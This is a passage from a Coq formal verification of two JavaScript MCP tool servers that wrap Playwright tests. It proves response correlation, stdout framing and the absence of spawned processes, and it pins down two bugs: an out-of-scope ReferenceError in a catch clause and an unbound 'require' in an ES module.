                         (js "workers", JNumber (js "4")) ]))
           (JString (js "run_ui_tests"))
           (JObject [])
           (JObject [ (js "grep", JString (js "login"));
                      (js "workers", JNumber (js "4")) ])
           (Node.world [exiting "ok" "" 0]));
    reflexivity.
Defined.

End ConcreteRuns.

(** * Further properties of SimpleMCPServer *)

Section ToolCalls.

Import SimpleMCPServer.

(** X3: the promise of the executor is settled once, by the first close
    or error event of the child: what the child reports after it changes
    nothing. *)
Theorem child_promise_settles_once data settling later later' output errorOutput :
  forallb is_data data = true ->
  is_data settling = false ->
  child_promise (data ++ settling :: later) output errorOutput
  = child_promise (data ++ settling :: later') output errorOutput.
Proof.
  intros Hdata Hsettling.
  rewrite !(child_promise_data _ _ _ _ Hdata).
  destruct settling; try discriminate; reflexivity.
Qed.

(** X4: the executor reads the data events of the child through two
    accumulated texts only: the texts of the stdout events put together in
    their order, and the texts of the stderr events put together in theirs.
    Two runs of data events with the same two accumulated texts settle the
    promise alike, whatever the number of events and whatever the order in
    which the events of the two streams alternate.  (The text of an event
    is the decoding of one Buffer, so this is about the decoded texts, not
    about the bytes of the child.) *)
Theorem child_promise_reads_accumulated_texts data1 data2 rest :
  forallb is_data data1 = true ->
  forallb is_data data2 = true ->
  stdout_of data1 = stdout_of data2 ->
  stderr_of data1 = stderr_of data2 ->
  child_promise (data1 ++ rest) [] [] = child_promise (data2 ++ rest) [] [].
Proof.
  intros H1 H2 Hout Herr.
  rewrite (child_promise_data _ _ _ _ H1), (child_promise_data _ _ _ _ H2).
  now rewrite Hout, Herr.
Qed.

End ToolCalls.

Section Responses.

Import SimpleMCPServer.

Variable host : Host.

Lemma Get_of_nullish v k :
  nullish v = true ->
  Get host v k = Thrown (mkError TypeError (type_error_message host k)).
Proof. destruct v; simpl; try discriminate; reflexivity. Qed.

Ltac advance H :=
  repeat first
    [ rewrite bind_returned in H; cbv beta in H
    | rewrite Get_member in H by assumption ].

Lemma processMessage_try_returned message w r :
  outcome (processMessage_try host message w) = Returned r ->
  exists parsed,
    JSON_parse host message = inl parsed
    /\ nullish parsed = false
    /\ jsonrpc r = js "2.0"
    /\ id r = member host parsed (js "id")
    /\ produced_by host parsed w r.
Proof.
  unfold processMessage_try, produced_by. intros H.
  destruct (JSON_parse host message) as [parsed|msg]; [|discriminate H].
  exists parsed. split; [reflexivity|].
  destruct (nullish parsed) eqn:Hobj.
  { rewrite bind_returned in H. cbv beta in H.
    rewrite (Get_of_nullish _ _ Hobj) in H. discriminate H. }
  split; [reflexivity|].
  advance H.
  destruct (strict_equals_string (member host parsed (js "method"))
              (js "initialize")) eqn:Hinit.
  { advance H. injection H as <-. cbn. auto. }
  advance H.
  destruct (strict_equals_string (member host parsed (js "method"))
              (js "tools/list")) eqn:Hlist.
  { advance H. injection H as <-. cbn. auto. }
  advance H.
  destruct (strict_equals_string (member host parsed (js "method"))
              (js "tools/call")) eqn:Hcall.
  - advance H.
    destruct (Get host (member host parsed (js "params")) (js "name"))
      as [n| |] eqn:Hn; try discriminate H.
    advance H.
    destruct (Get host (member host parsed (js "params")) (js "arguments"))
      as [a| |] eqn:Ha; try discriminate H.
    advance H.
    unfold bind in H.
    destruct (outcome (handleToolCall host n a w)) as [payload| |] eqn:Hrun;
      try discriminate H.
    cbn [outcome world trace] in H. fold (@bind JSValue Response) in H.
    advance H. injection H as <-. cbn.
    repeat split; try reflexivity.
    exists n, a. split; [|exact Hrun].
    unfold call_of, method_is.
    now rewrite Hcall, (Get_member host _ (js "params") Hobj), Hn, Ha.
  - advance H. injection H as <-. cbn. auto 10.
Qed.

(** X5: every response processMessage returns has jsonrpc 2.0 and the id
    of the parsed request, and tells the branch that produced it: the
    handshake for initialize, the registry for tools/list, the payload of
    handleToolCall for tools/call, and the error -32601 for any other
    method.  In particular no response with the code -32700 is ever
    returned. *)
Theorem responses_correlate_with_requests message w r :
  outcome (processMessage host message w) = Returned r ->
  exists parsed,
    JSON_parse host message = inl parsed
    /\ nullish parsed = false
    /\ jsonrpc r = js "2.0"
    /\ id r = member host parsed (js "id")
    /\ produced_by host parsed w r
    /\ (forall msg, body r <> error_object (-32700) msg).
Proof.
  intros H.
  assert (Htry : outcome (processMessage_try host message w) = Returned r).
  { unfold processMessage, try_catch in H. cbv zeta in H.
    destruct (outcome (processMessage_try host message w)) as [r'|e|] eqn:Ho;
      [ rewrite Ho in H; exact H | | rewrite Ho in H; discriminate H ].
    rewrite processMessage_catch_throws in H. discriminate H. }
  destruct (processMessage_try_returned _ _ _ Htry)
    as (parsed & Hparse & Hobj & Hrpc & Hid & Hby).
  exists parsed. repeat split; try assumption.
  intros msg Hbody. unfold produced_by in Hby. rewrite Hbody in Hby.
  destruct Hby as [Hcode _]. discriminate Hcode.
Qed.

Ltac run_with Hmethod :=
  repeat first
    [ rewrite bind_returned; cbv beta
    | match goal with
      | |- context [strict_equals_string (JString (js ?a)) (js ?b)] =>
          let c := eval vm_compute in
                     (strict_equals_string (JString (js a)) (js b)) in
          replace (strict_equals_string (JString (js a)) (js b)) with c
            by reflexivity;
          cbv iota
      end
    | rewrite !Get_member by assumption
    | rewrite Hmethod ].

Lemma processMessage_initialize message parsed w :
  JSON_parse host message = inl parsed ->
  method_is host parsed (js "initialize") = true ->
  processMessage host message w
  = mkRun [] w
      (Returned
         {| jsonrpc := js "2.0";
            id := member host parsed (js "id");
            body := result_initialize
              {| protocolVersion := js "2024-11-05";
                 capabilities := [(js "tools", JObject [])];
                 serverInfo_name := js "playwright-mcp-server";
                 serverInfo_version := js "1.0.0" |} |}).
Proof.
  intros Hparse Hinit.
  destruct (method_is_object _ _ _ Hinit) as [Hobj Hmethod].
  unfold processMessage. apply try_catch_returned.
  unfold processMessage_try. rewrite Hparse.
  run_with Hmethod. reflexivity.
Qed.

Lemma processMessage_tools_list message parsed w :
  JSON_parse host message = inl parsed ->
  method_is host parsed (js "tools/list") = true ->
  processMessage host message w
  = mkRun [] w
      (Returned {| jsonrpc := js "2.0";
                   id := member host parsed (js "id");
                   body := result_tools tools |}).
Proof.
  intros Hparse Hlist.
  destruct (method_is_object _ _ _ Hlist) as [Hobj Hmethod].
  unfold processMessage. apply try_catch_returned.
  unfold processMessage_try. rewrite Hparse.
  run_with Hmethod. reflexivity.
Qed.

(** X6: an initialize request is answered with the handshake, protocol
    version 2024-11-05, the tools capability and the server's name and
    version, under the id of the request; nothing is run for it and its
    params are not read. *)
Theorem initialize_returns_handshake message parsed w :
  JSON_parse host message = inl parsed ->
  method_is host parsed (js "initialize") = true ->
  processMessage host message w
  = mkRun [] w
      (Returned
         {| jsonrpc := js "2.0";
            id := member host parsed (js "id");
            body := result_initialize
              {| protocolVersion := js "2024-11-05";
                 capabilities := [(js "tools", JObject [])];
                 serverInfo_name := js "playwright-mcp-server";
                 serverInfo_version := js "1.0.0" |} |}).
Proof. exact (processMessage_initialize message parsed w). Qed.

(** X7: a unit that parses to null, or a tools/call request whose params
    are missing or null, gets no response: reading the property throws a
    TypeError, and the catch clause turns it into the ReferenceError that
    leaves processMessage. *)
Theorem unreadable_request_is_not_answered message parsed w :
  JSON_parse host message = inl parsed ->
  nullish parsed = true
  \/ (method_is host parsed (js "tools/call") = true
      /\ nullish (member host parsed (js "params")) = true) ->
  processMessage host message w
  = mkRun [] w
      (Thrown (mkError ReferenceError
                 (reference_error_message host (js "parsed")))).
Proof.
  intros Hparse Hbad.
  apply processMessage_thrown
    with (e := mkError TypeError
                 (type_error_message host
                    (if nullish parsed then js "method" else js "name"))).
  unfold processMessage_try. rewrite Hparse, bind_returned. cbv beta.
  destruct Hbad as [Hnull | [Hcall Hparams]].
  - rewrite Hnull, (Get_of_nullish _ _ Hnull). reflexivity.
  - destruct (method_is_object _ _ _ Hcall) as [Hobj Hmethod].
    rewrite Hobj.
    run_with Hmethod.
    rewrite (Get_of_nullish _ _ Hparams). reflexivity.
Qed.

(** X8: a payload handleToolCall returns holds exactly one content block,
    of type text and with a text that is not empty, and its isError flag
    is either absent or true. *)
Theorem tool_payload_has_one_text_block name args w payload :
  outcome (handleToolCall host name args w) = Returned payload ->
  exists t,
    content payload = [ {| type := js "text"; text := t |} ]
    /\ truthy t = true
    /\ (isError payload = None \/ isError payload = Some true).
Proof.
  unfold handleToolCall. intros H.
  destruct (strict_equals_string name (js "run_ui_tests")).
  - unfold try_catch, bind, emit, get_world, ret in H.
    cbn [trace world outcome] in H.
    destruct (outcome (runPlaywrightTests host _ _ w)) in H;
      cbn [trace world outcome] in H; try discriminate H;
      injection H as <-; eexists; repeat split; auto.
  - destruct (strict_equals_string name (js "run_accessibility_tests")).
    + unfold try_catch, bind, emit, get_world, ret in H.
      cbn [trace world outcome] in H.
      destruct (outcome (runPlaywrightTests host _ _ w)) in H;
        cbn [trace world outcome] in H; try discriminate H;
        injection H as <-; eexists; repeat split; auto.
    + destruct (ToString host name); discriminate H.
Qed.

(** X23: the dispatcher reads the method, the id and, for tools/call, the
    name in params, and nothing else of a request: two request objects
    that agree on the method and the id and, when the method is
    tools/call, on the name in params, are answered alike.  The jsonrpc member, the
    params of the other methods and any further property are never
    looked at. *)
Theorem dispatcher_reads_method_id_and_tool_name message1 message2 parsed1 parsed2 w :
  JSON_parse host message1 = inl parsed1 ->
  JSON_parse host message2 = inl parsed2 ->
  nullish parsed1 = false ->
  nullish parsed2 = false ->
  member host parsed1 (js "method") = member host parsed2 (js "method") ->
  member host parsed1 (js "id") = member host parsed2 (js "id") ->
  (method_is host parsed2 (js "tools/call") = true ->
   Get host (member host parsed1 (js "params")) (js "name")
   = Get host (member host parsed2 (js "params")) (js "name")) ->
  processMessage host message1 w = processMessage host message2 w.
Proof.
  intros Hparse1 Hparse2 Hobj1 Hobj2 Hmethod Hid Hname.
  assert (Htry :
    processMessage_try host message1 w = processMessage_try host message2 w).
  { unfold processMessage_try. rewrite Hparse1, Hparse2.
    rewrite ?bind_returned. cbv beta.
    rewrite ?Get_member by assumption. rewrite ?bind_returned. cbv beta.
    rewrite ?Hmethod.
    destruct (strict_equals_string (member host parsed2 (js "method"))
                (js "initialize")).
    { rewrite ?Get_member by assumption. rewrite ?bind_returned, ?Hid; reflexivity. }
    rewrite ?Get_member by assumption. rewrite ?bind_returned. cbv beta.
    rewrite ?Hmethod.
    destruct (strict_equals_string (member host parsed2 (js "method"))
                (js "tools/list")).
    { rewrite ?Get_member by assumption. rewrite ?bind_returned, ?Hid; reflexivity. }
    rewrite ?Get_member by assumption. rewrite ?bind_returned. cbv beta.
    rewrite ?Hmethod.
    destruct (strict_equals_string (member host parsed2 (js "method"))
                (js "tools/call")) eqn:Hcall.
    2:{ rewrite ?Get_member by assumption. rewrite ?bind_returned, ?Hid; reflexivity. }
    specialize (Hname Hcall).
    rewrite ?Get_member by assumption. rewrite ?bind_returned. cbv beta.
    rewrite Hname.
    destruct (nullish (member host parsed2 (js "params"))) eqn:Hp2.
    { rewrite (Get_of_nullish _ _ Hp2). reflexivity. }
    assert (Hp1 : nullish (member host parsed1 (js "params")) = false).
    { destruct (nullish (member host parsed1 (js "params"))) eqn:Hp1;
        [|reflexivity].
      rewrite (Get_of_nullish _ _ Hp1), (Get_member host _ _ Hp2) in Hname.
      discriminate Hname. }
    rewrite (Get_member host _ (js "name") Hp2).
    rewrite ?bind_returned. cbv beta.
    rewrite ?bind_returned. cbv beta.
    rewrite (Get_member host _ (js "arguments") Hp1),
            (Get_member host _ (js "arguments") Hp2).
    rewrite ?bind_returned. cbv beta.
    rewrite ?Hid. reflexivity. }
  unfold processMessage, try_catch. rewrite Htry.
  destruct (outcome (processMessage_try host message2 w)); reflexivity.
Qed.

End Responses.

Section DataHandler.

Import SimpleMCPServer.

Variable host : Host.

Lemma bind_ext {A B} (m : M A) (f g : A -> M B) w :
  (forall a w', f a w' = g a w') -> bind m f w = bind m g w.
Proof. intros H. unfold bind. destruct (outcome (m w)); now rewrite ?H. Qed.

(** The loop of the data handler over the lines of two texts. *)
Lemma for_lines_app lines1 lines2 w :
  for_lines host (lines1 ++ lines2) w
  = bind (for_lines host lines1) (fun _ => for_lines host lines2) w.
Proof.
  revert w. induction lines1 as [|line lines1 IH]; intros w.
  - reflexivity.
  - cbn [app for_lines]. rewrite bind_assoc.
    apply bind_ext. intros _ w'. apply IH.
Qed.

(** The loop at a line that passes the test: dispatch, then the write of
    the response and the rest of the lines, or the end of the handler. *)
Lemma for_lines_dispatch line rest w :
  truthy (trim line) = true ->
  for_lines host (line :: rest) w
  = match outcome (processMessage host line w) with
    | Returned r =>
        let after := for_lines host rest (world (processMessage host line w)) in
        mkRun (call_processMessage line :: trace (processMessage host line w)
               ++ stdout_write (JSON_stringify host r ++ [nl]) :: trace after)
          (world after) (outcome after)
    | Thrown e =>
        mkRun (call_processMessage line :: trace (processMessage host line w))
          (world (processMessage host line w)) (Thrown e)
    | Pending =>
        mkRun (call_processMessage line :: trace (processMessage host line w))
          (world (processMessage host line w)) Pending
    end.
Proof.
  intros Hline. cbn [for_lines]. rewrite Hline.
  unfold bind, emit. cbn [outcome trace world].
  destruct (outcome (processMessage host line w));
    cbn [outcome trace world app]; [|reflexivity..].
  now rewrite <- app_assoc.
Qed.

Lemma for_lines_skip line rest w :
  truthy (trim line) = false ->
  for_lines host (line :: rest) w = for_lines host rest w.
Proof. intros Hline. cbn [for_lines]. rewrite Hline. reflexivity. Qed.

Lemma quiet_texts tr : Forall quiet_event tr -> stdout_texts tr = [].
Proof.
  induction 1 as [|ev tr Hev _ IH]; [reflexivity|].
  destruct ev; cbn in Hev; try contradiction; exact IH.
Qed.

Lemma stdout_texts_app a b :
  stdout_texts (a ++ b) = stdout_texts a ++ stdout_texts b.
Proof.
  induction a as [|ev a IH]; [reflexivity|].
  destruct ev; cbn [app stdout_texts]; rewrite IH; reflexivity.
Qed.

(** X9: a chunk made of a text, a line feed and a second text is handled
    as the first text and then, if every dispatched line of it was
    answered, the second text in the world the first left; a line that is
    not answered ends the handler, and the rest of the chunk is dropped. *)
Theorem on_data_composes a b w :
  on_data host (a ++ nl :: b) w
  = bind (on_data host a) (fun _ => on_data host b) w
  /\ (outcome (on_data host a w) <> Returned tt ->
      on_data host (a ++ nl :: b) w = on_data host a w).
Proof.
  assert (Hbind :
    on_data host (a ++ nl :: b) w
    = bind (on_data host a) (fun _ => on_data host b) w).
  { unfold on_data. rewrite split_nl_at_nl. apply for_lines_app. }
  split; [exact Hbind|].
  intros Hstop. rewrite Hbind. unfold bind.
  destruct (outcome (on_data host a w)) as [[]| |] eqn:Ho;
    [contradiction | rewrite <- Ho; reflexivity | rewrite <- Ho; reflexivity].
Qed.



Lemma sequential_texts w lines tr :
  Sequential host w lines tr ->
  exists responses,
    stdout_texts tr
    = map (fun r => JSON_stringify host r ++ [nl]) responses.
Proof.
  induction 1 as [ w | w l rest tr Hline Hseq IH
                 | w l rest r tr Hline Hout Hquiet Hseq IH
                 | w l rest Hline Hout Hquiet ].
  - exists []. reflexivity.
  - exact IH.
  - destruct IH as [responses IH]. exists (r :: responses).
    cbn [stdout_texts map].
    rewrite stdout_texts_app, (quiet_texts _ Hquiet). cbn [app stdout_texts].
    now rewrite IH.
  - exists []. cbn [stdout_texts map]. now apply quiet_texts.
Qed.

(** X11: standard output carries nothing but responses: every text the
    data handler writes is JSON.stringify of a response followed by a line
    feed; the diagnostics of the tools go to standard error. *)
Theorem stdout_carries_only_responses data w :
  exists responses,
    stdout_texts (trace (on_data host data w))
    = map (fun r => JSON_stringify host r ++ [nl]) responses.
Proof.
  apply sequential_texts with (w := w) (lines := split_nl data).
  unfold on_data. apply for_lines_sequential.
Qed.

Lemma white_lines data :
  forallb is_white data = true ->
  Forall (fun line => truthy (trim line) = false) (split_nl data).
Proof.
  induction data as [|c data IH]; cbn [forallb split_nl].
  - intros _. repeat constructor.
  - intros H. apply andb_true_iff in H as [Hc Hdata].
    specialize (IH Hdata).
    destruct (N.eqb c nl).
    + constructor; [reflexivity | exact IH].
    + destruct (split_nl data) as [|h t]; [repeat constructor|].
      * change (non_blank [c] = false). rewrite non_blank_spec.
        cbn [existsb]. now rewrite Hc.
      * inversion IH as [|? ? Hh Ht]; subst. constructor; [|exact Ht].
        change (non_blank (c :: h) = false). rewrite non_blank_spec.
        cbn [existsb]. rewrite Hc. cbn [negb orb].
        rewrite <- non_blank_spec. exact Hh.
Qed.

Lemma for_lines_blank lines w :
  Forall (fun line => truthy (trim line) = false) lines ->
  for_lines host lines w = mkRun [] w (Returned tt).
Proof.
  induction 1 as [|line rest Hline _ IH]; [reflexivity|].
  now rewrite (for_lines_skip _ _ _ Hline).
Qed.

(** X12: a chunk that is empty or holds white space only (line feeds
    included) is ignored: nothing is dispatched, nothing is written, the
    handler completes. *)
Theorem blank_chunk_is_ignored data w :
  forallb is_white data = true ->
  on_data host data w = mkRun [] w (Returned tt).
Proof.
  intros H. unfold on_data. apply for_lines_blank, white_lines, H.
Qed.

End DataHandler.

(** * Requests that call a tool *)

Section UnknownTool.

Import SimpleMCPServer.

Variable host : Host.

(** C3, on the code: a tools/call request naming a tool that is not in the
    registry is not answered.  handleToolCall throws (the Error Unknown
    tool, or the TypeError of the conversion of a name that has no
    primitive value); the catch clause of processMessage, which is written
    to answer with an error response under parsed?.id, reads the
    identifier parsed, which is not in scope there, and the ReferenceError
    leaves processMessage and the data handler: nothing is written to
    standard output, and the lines after the request in the chunk are
    never dispatched. *)
Theorem unknown_tool_escapes_as_reference_error
    message parsed name args rest w :
  complete_message message = true ->
  JSON_parse host message = inl parsed ->
  call_of host parsed = Some (name, args) ->
  names_tool name = false ->
  handleToolCall host name args w
  = mkRun [] w
      (Thrown match ToString host name with
              | inl shown => mkError Error (js "Unknown tool: " ++ shown)
              | inr error => error
              end)
  /\ processMessage host message w
     = mkRun [] w
         (Thrown (mkError ReferenceError
                    (reference_error_message host (js "parsed"))))
  /\ on_data host (message ++ nl :: rest) w
     = mkRun [call_processMessage message] w
         (Thrown (mkError ReferenceError
                    (reference_error_message host (js "parsed")))).
Proof.
  intros Hline Hparse Hcall Hname.
  pose proof (handleToolCall_unknown host name args w Hname) as Hthrows.
  assert (Hrun :
    processMessage host message w
    = mkRun [] w
        (Thrown (mkError ReferenceError
                   (reference_error_message host (js "parsed"))))).
  { eapply processMessage_thrown.
    rewrite (processMessage_try_call host _ _ _ _ _ Hparse Hcall).
    apply bind_run_thrown. exact Hthrows. }
  split; [exact Hthrows|]. split; [exact Hrun|].
  apply andb_true_iff in Hline as [Hnl Hblank]. apply negb_true_iff in Hnl.
  unfold on_data. rewrite split_nl_at_nl, (split_nl_one_line _ Hnl).
  cbn [app]. rewrite (for_lines_dispatch host _ _ _ Hblank), Hrun.
  reflexivity.
Qed.

End UnknownTool.

(** ** The module as Node loads it: an ES module, without [require] *)

Section EsModule.

Import SimpleMCPServer.

Variable host : Host.

Hypothesis no_require : module_require host = false.

(** C4, on the code: the command of a registered tool is never run, so a
    run that would exit with status 0 never gives a success payload.
    validateProjectDir calls require, which an ES module does not bind;
    the ReferenceError is caught by handleToolCall, and the call returns a
    payload with isError set whose text is the failure text of the tool
    with the message of that ReferenceError.  Nothing is spawned and the
    world, the processes it would run included, is left as it was. *)
Theorem registered_tool_call_runs_no_command tool args w :
  In tool tool_names ->
  handleToolCall host (JString tool) args w
  = mkRun [console_error (Tool.notice tool)] w
      (Returned {| content :=
                     [text_block (failure_prefix tool
                                  ++ reference_error_message host
                                       (js "require"))];
                   isError := Some true |}).
Proof.
  intros Hin. exact (handleToolCall_without_require host tool args w Hin
                       no_require).
Qed.

(** C5, on the code: a tools/call request for a registered tool is
    answered with a result whose payload has isError set, but its text is
    not drawn from the stderr or the stdout of a command: no command is
    run, and the text is the failure text of the tool with the message of
    the ReferenceError for require, the same whatever the process would
    have reported. *)
Theorem tool_error_text_is_the_require_error message parsed tool args w :
  JSON_parse host message = inl parsed ->
  call_of host parsed = Some (JString tool, args) ->
  In tool tool_names ->
  processMessage host message w
  = mkRun [console_error (Tool.notice tool)] w
      (Returned
         {| jsonrpc := js "2.0";
            id := member host parsed (js "id");
            body := result_call
              {| content :=
                   [text_block (failure_prefix tool
                                ++ reference_error_message host
                                     (js "require"))];
                 isError := Some true |} |}).
Proof.
  intros Hparse Hcall Hin.
  unfold processMessage. apply try_catch_returned.
  rewrite (processMessage_try_call host _ _ _ _ _ Hparse Hcall).
  rewrite (bind_run _ _ _ _ _ _
             (handleToolCall_without_require host tool args w Hin no_require)).
  cbn [ret trace world outcome]. now rewrite app_nil_r.
Qed.

(** *** No process, no waiting *)

Lemma spawns_app a b : spawns (a ++ b) = spawns a + spawns b.
Proof.
  induction a as [|ev a IH]; [reflexivity|].
  destruct ev; cbn [app spawns]; rewrite IH; reflexivity.
Qed.

Lemma Inert_ret {A} (a : A) : Inert (ret a).
Proof. intros w. cbn. repeat split. discriminate. Qed.

Lemma Inert_throw {A} (e : JSError) : Inert (@throw A e).
Proof. intros w. cbn. repeat split. discriminate. Qed.

Lemma Inert_lift {A} (o : Outcome A) : o <> Pending -> Inert (lift o).
Proof. intros Ho w. cbn. repeat split. exact Ho. Qed.

Lemma Inert_get_world : Inert get_world.
Proof. intros w. cbn. repeat split. discriminate. Qed.

Lemma Inert_emit ev : spawns [ev] = 0 -> Inert (emit ev).
Proof. intros Hev w. cbn [emit trace world outcome]. repeat split; [exact Hev|discriminate]. Qed.

Lemma Inert_bind {A B} (m : M A) (f : A -> M B) :
  Inert m -> (forall a, Inert (f a)) -> Inert (bind m f).
Proof.
  intros Hm Hf w. destruct (Hm w) as (Hs & Hw & Ho). unfold bind.
  destruct (outcome (m w)) as [a| |] eqn:Hout; cbn [trace world outcome].
  - destruct (Hf a (world (m w))) as (Hs' & Hw' & Ho').
    rewrite spawns_app, Hs, Hs', Hw'. repeat split; assumption.
  - repeat split; [exact Hs | exact Hw | discriminate].
  - now contradiction Ho.
Qed.

Lemma Inert_try_catch {A} (m : M A) (h : JSError -> M A) :
  Inert m -> (forall e, Inert (h e)) -> Inert (try_catch m h).
Proof.
  intros Hm Hh w. destruct (Hm w) as (Hs & Hw & Ho). unfold try_catch.
  destruct (outcome (m w)) as [a|e|] eqn:Hout; cbn [trace world outcome].
  - rewrite Hout. repeat split; [exact Hs | exact Hw | discriminate].
  - destruct (Hh e (world (m w))) as (Hs' & Hw' & Ho').
    rewrite spawns_app, Hs, Hs', Hw'. repeat split; assumption.
  - now contradiction Ho.
Qed.

Lemma Get_settles v k : Get host v k <> Pending.
Proof.
  destruct v; cbn; try discriminate.
  destruct (own_property k fields); discriminate.
Qed.

Lemma Inert_Get v k : Inert (lift (Get host v k)).
Proof. apply Inert_lift, Get_settles. Qed.

Create HintDb inert.

#[local] Hint Resolve Inert_ret Inert_throw Inert_get_world Inert_Get : inert.

Ltac inert :=
  repeat first
    [ solve [auto with inert]
    | apply Inert_bind; [|intros ?]
    | apply Inert_try_catch; [|intros ?]
    | apply Inert_emit; reflexivity
    | match goal with
      | |- Inert (if ?c then _ else _) => destruct c
      | |- Inert (match ?c with inl _ => _ | inr _ => _ end) => destruct c
      | |- Inert (lift (match ?c with inl _ => _ | inr _ => _ end)) =>
          destruct c; apply Inert_lift; discriminate
      | |- Inert (lift (ResolveIdentifier _ _ _)) =>
          apply Inert_lift; unfold ResolveIdentifier;
          destruct (lookup_binding _ _); discriminate
      end ].

Lemma Inert_runPlaywrightTests dir options :
  Inert (runPlaywrightTests host dir options).
Proof.
  intros w. rewrite (runPlaywrightTests_without_require host _ _ _ no_require).
  cbn. repeat split. discriminate.
Qed.

#[local] Hint Resolve Inert_runPlaywrightTests : inert.

Lemma Inert_handleToolCall n a : Inert (handleToolCall host n a).
Proof. unfold handleToolCall. inert. Qed.

#[local] Hint Resolve Inert_handleToolCall : inert.

Lemma Inert_processMessage message : Inert (processMessage host message).
Proof.
  unfold processMessage, processMessage_try, processMessage_catch. inert.
Qed.

Lemma Inert_for_lines lines : Inert (for_lines host lines).
Proof.
  induction lines as [|line rest IH]; cbn [for_lines].
  - apply Inert_ret.
  - apply Inert_bind; [|intros _; exact IH].
    destruct (truthy (trim line)); [|apply Inert_ret].
    apply Inert_bind; [apply Inert_emit; reflexivity | intros _].
    apply Inert_bind; [apply Inert_processMessage | intros r].
    apply Inert_emit. reflexivity.
Qed.

(** X2: the server never runs a command.  Whatever arrives on standard
    input, the data handler spawns no process and leaves the world, the
    file system and the processes it could run, as it was: every
    tools/call fails in validateProjectDir, at the call of require, before
    the directory is looked at. *)
Theorem no_process_is_ever_spawned data w :
  spawns (trace (on_data host data w)) = 0
  /\ world (on_data host data w) = w.
Proof.
  destruct (Inert_for_lines (split_nl data) w) as (Hs & Hw & _).
  unfold on_data. auto.
Qed.

(** The only exception that leaves [processMessage] is the ReferenceError
    of its catch clause, and so for the loop of the data handler. *)
Lemma processMessage_throws_reference_error message w e :
  outcome (processMessage host message w) = Thrown e ->
  e = mkError ReferenceError (reference_error_message host (js "parsed")).
Proof.
  unfold processMessage, try_catch. cbv zeta.
  destruct (outcome (processMessage_try host message w)) as [r|e'|] eqn:Ho;
    cbn [outcome].
  - rewrite Ho. discriminate.
  - rewrite processMessage_catch_throws. cbn [outcome]. congruence.
  - rewrite Ho. discriminate.
Qed.

Lemma for_lines_throws_reference_error lines :
  forall w e,
    outcome (for_lines host lines w) = Thrown e ->
    e = mkError ReferenceError (reference_error_message host (js "parsed")).
Proof.
  induction lines as [|line rest IH]; intros w e.
  - discriminate.
  - destruct (truthy (trim line)) eqn:Hline.
    + rewrite (for_lines_dispatch host _ _ _ Hline).
      destruct (outcome (processMessage host line w)) as [r|e'|] eqn:Ho;
        cbv zeta; cbn [outcome].
      * apply IH.
      * intros H. injection H as <-.
        exact (processMessage_throws_reference_error _ _ _ Ho).
      * discriminate.
    + rewrite (for_lines_skip host _ _ _ Hline). apply IH.
Qed.

(** X13: no chunk is left waiting.  The data handler always ends: it
    completes, having answered every line it dispatched, or it is left by
    the ReferenceError of the catch clause of processMessage at the first
    line that is not answered; it never waits for a child process, since
    none is spawned. *)
Theorem chunk_is_never_left_pending data w :
  outcome (on_data host data w) = Returned tt
  \/ outcome (on_data host data w)
     = Thrown (mkError ReferenceError
                 (reference_error_message host (js "parsed"))).
Proof.
  destruct (Inert_for_lines (split_nl data) w) as (_ & _ & Ho).
  unfold on_data in *.
  destruct (outcome (for_lines host (split_nl data) w)) as [[]|e|] eqn:Hout.
  - now left.
  - right. f_equal. exact (for_lines_throws_reference_error _ _ _ Hout).
  - now contradiction Ho.
Qed.

End EsModule.

(** * Further properties of the handlers of playwright-mcp-server *)

Section RegisteredHandlers.

Import PlaywrightMcpServer Registered.

Ltac each_registration Hin :=
  unfold registrations in Hin; cbn [In] in Hin;
  repeat (destruct Hin as [<- | Hin]); try contradiction;
  cbn [tool_name tool_handler tool_inputSchema] in *.

Ltac unfold_handlers_in H :=
  cbv beta zeta delta
    [run_ui_tests run_accessibility_test security_audit
     github_workflow_validate code_quality_check docker_build_test
     rust_check rust_test rust_fmt_check tauri_build tauri_dev
     typescript_check] in H.

(** X14: a handler that runs a command resolves its promise exactly when
    the command succeeds, that is when exec reports no error, or, for
    security_audit alone, an error with exit status 1; in every other case
    the promise is rejected. *)
Theorem handlers_resolve_iff_command_succeeds r args command callback cb :
  In r registrations ->
  tool_handler r args = exec command callback ->
  (exists payload, callback cb = resolve payload)
  <-> (err cb = None
       \/ (tool_name r = js "security_audit"
           /\ err cb = Some (code_number 1))).
Proof.
  intros Hin Hexec. destruct cb as [e out errs].
  each_registration Hin.
  all: try (unfold performance_test in Hexec;
            destruct (arg_truthy args (js "url")); cbn [negb] in Hexec;
            [|discriminate Hexec]).
  all: unfold_handlers_in Hexec; injection Hexec as _ <-; cbn.
  all: try (unfold is_err; cbn [err]; destruct e as [c|];
            (split;
             [ intros [payload H]; first [ discriminate H | now left ]
             | intros [H | [H _]];
               first [ discriminate H
                     | vm_compute in H; discriminate H
                     | eexists; reflexivity ] ])).
  (* security_audit *)
  unfold err_other_than_1; cbn [err].
  destruct e as [[[| [| |] |]| |]|]; cbn;
    (split;
     [ intros [payload H]; first [ discriminate H | now left | right; auto ]
     | intros [H | [_ H]];
       first [ discriminate H | eexists; reflexivity ] ]).
Qed.

(** X15: performance_test is the only handler that can settle without
    running a command, and it does so exactly when its url argument is
    absent or empty, rejecting with the text URL is required for
    performance testing; every other handler always runs its command. *)
Theorem only_performance_test_settles_without_command r args s :
  In r registrations ->
  tool_handler r args = settle s
  <-> (tool_name r = js "performance_test"
       /\ effective args (js "url") = None
       /\ s = reject (text_result
                       (js "URL is required for performance testing"))).
Proof.
  intros Hin. each_registration Hin.
  all: try (split; [ intros H; discriminate H
                   | intros [H _]; vm_compute in H; discriminate H ]).
  unfold performance_test, effective, arg_truthy.
  destruct (arg args (js "url")) as [v|]; [destruct (truthy v)|];
    cbn [negb]; split.
  all: try (intros H; discriminate H).
  all: try (intros (_ & H & _); discriminate H).
  all: try (intros H; injection H as <-; auto).
  all: intros (_ & _ & ->); reflexivity.
Qed.

Lemma effective_arg_or args args' k fallback :
  effective args k = effective args' k ->
  arg_or args k fallback = arg_or args' k fallback.
Proof.
  unfold effective, arg_or, or_else.
  destruct (arg args k) as [v|], (arg args' k) as [v'|];
    try destruct (truthy v) eqn:Hv; try destruct (truthy v') eqn:Hv';
    intros H; try discriminate H; try reflexivity.
  now injection H as ->.
Qed.

Lemma effective_arg_truthy args args' k :
  effective args k = effective args' k ->
  arg_truthy args k = arg_truthy args' k.
Proof.
  unfold effective, arg_truthy.
  destruct (arg args k) as [v|], (arg args' k) as [v'|];
    try destruct (truthy v) eqn:Hv; try destruct (truthy v') eqn:Hv';
    intros H; try discriminate H; try reflexivity.
Qed.

(** X16: a handler depends on the arguments its input schema declares,
